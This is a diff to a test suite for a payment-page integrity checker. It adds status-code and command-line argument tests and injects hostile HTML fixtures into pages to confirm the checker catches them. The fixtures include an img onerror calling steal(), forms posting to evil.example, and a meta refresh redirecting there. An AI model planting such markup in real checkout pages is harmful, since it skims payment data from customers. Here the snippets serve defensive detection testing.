@@ -21,6 +21,7 @@ let page: string
 let keys: DerivedKeys
 let change: Change
 let dropPolicy = false
+let answerWith: number | undefined
 
 beforeAll(async () => {
   gateway = await startTestGateway()
@@ -30,7 +31,8 @@ beforeAll(async () => {
     const body = change(path, await asked.text())
     const policy = asked.headers.get('content-security-policy')
     if (policy && !dropPolicy) response.setHeader('content-security-policy', policy)
-    response.writeHead(asked.status).end(body)
+    const isPage = path.startsWith('/pay/') && !path.startsWith('/pay/assets/')
+    response.writeHead((isPage && answerWith) || asked.status).end(body)
   })
   await new Promise<void>(resolve => between.listen(0, '127.0.0.1', resolve))
   origin = `http://127.0.0.1:${(between.address() as AddressInfo).port}`
@@ -46,6 +48,7 @@ beforeAll(async () => {
 beforeEach(() => {
   change = (_, text) => text
   dropPolicy = false
+  answerWith = undefined
 })
 afterAll(async () => {
   await new Promise(resolve => between.close(resolve))
@@ -83,6 +86,7 @@ test.each([
   ['<img src=x onerror="steal()">', 'something that is not ours'],
   ['<form method="post" action="https://evil.example/">', 'something that is not ours'],
   ['<button formaction="//evil.example/">Pay</button>', 'something that is not ours'],
+  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'something that is not ours'],
 ])('a page with %s is found', async (added, found) => {
   inPage(/<body[^>]*>/, `$&${added}`)
   const differences = await verify()
@@ -97,6 +101,26 @@ test('a page without its policy is found', async () => {
     "the policy of the page lacks script-src 'self'",
     "the policy of the page lacks connect-src 'self'",
   ])
+})
+
+test.each([303, 404, 410])('a page that answers %i is not taken for one that was checked', async status => {
+  answerWith = status
+  expect(await verify()).toEqual([
+    `the page answered ${status}, so that nothing of it was checked: name one that waits for its customer`,
+  ])
+})
+
+test.each([
+  [['--page', 'foo'], 2, "option '--page <url>' argument 'foo' is invalid"],
+  [['--origin', 'ftp://pay.example'], 2, "option '--origin <url>' argument 'ftp://pay.example' is invalid"],
+  [['--page', 'http://127.0.0.1:9/pay/x'], 1, 'tollgate: http://127.0.0.1:9/pay/x cannot be read: '],
+])('verify-page %j names the address that is wrong', async (words, code, said) => {
+  const commands = commandsHere(gateway.databaseUrl, {
+    TOLLGATE_MASTER_KEY: masterKeyOf(gateway.databaseUrl),
+  })
+  const refused = await commands.run('verify-page', '--origin', origin, ...words)
+  commands.remove()
+  expect(refused).toMatchObject({ code, stderr: expect.stringContaining(said) })
 })
 
 test('script-tag --json tells the address, hash and compressed size of the script', async () => {
